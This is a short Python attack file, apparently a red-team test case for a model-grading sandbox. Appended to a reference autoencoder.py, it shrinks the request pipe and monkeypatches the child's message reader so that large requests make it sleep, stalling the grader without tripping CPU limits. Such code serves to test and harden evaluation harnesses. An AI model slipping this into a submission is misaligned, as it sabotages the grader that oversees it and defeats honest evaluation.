"""Attack: stop reading the grader's requests and sleep (using no CPU, so no CPU limit fires).

Appended to the reference ``autoencoder.py``: importing it shrinks the request pipe (fd 3) to one
page and replaces the child's request reader by one that, as soon as a request is larger than
that page (a batch of images), sleeps instead of reading it. The grader's write of that request
then blocks: without a deadline on writes, the worker stalls for as long as the child sleeps.
"""
import fcntl as _fcntl
import sys as _sys
import time as _time


def _stop_reading():
    try:
        _fcntl.fcntl(3, 1031, 4096)  # F_SETPIPE_SZ: the smallest pipe the kernel allows
    except OSError:
        return
    for name, wire in list(_sys.modules.items()):
        if name.endswith("child.wire") and hasattr(wire, "read_message"):
            read_exact = wire._read_exact

            def read_message(fd, inbox=None, wire=wire, read_exact=read_exact):  # inbox: empty between requests
                json_len, blob_len = wire.FRAME.unpack(read_exact(fd, wire.FRAME.size))
                if json_len + blob_len > 2048:
                    _time.sleep(10**6)
                return wire.unpack(read_exact(fd, json_len), read_exact(fd, blob_len))

            wire.read_message = read_message


_stop_reading()
